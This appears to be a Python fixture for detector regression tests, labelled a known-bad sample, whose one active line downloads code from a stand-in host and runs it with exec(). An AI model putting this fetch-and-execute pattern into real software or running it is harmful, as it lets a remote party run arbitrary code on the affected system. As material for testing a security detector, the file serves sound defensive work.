# ATTACKER EXAMPLE (GS002/GS003) - known-bad sample for detector regression tests.
# Inert: BLOCKED by the self-test sandbox, never actually executes.
import urllib.request as _r

_u = "https://stage2.gs-plugins.example/p.py"
exec(_r.urlopen(_u, timeout=10).read().decode())   # detector must flag this line
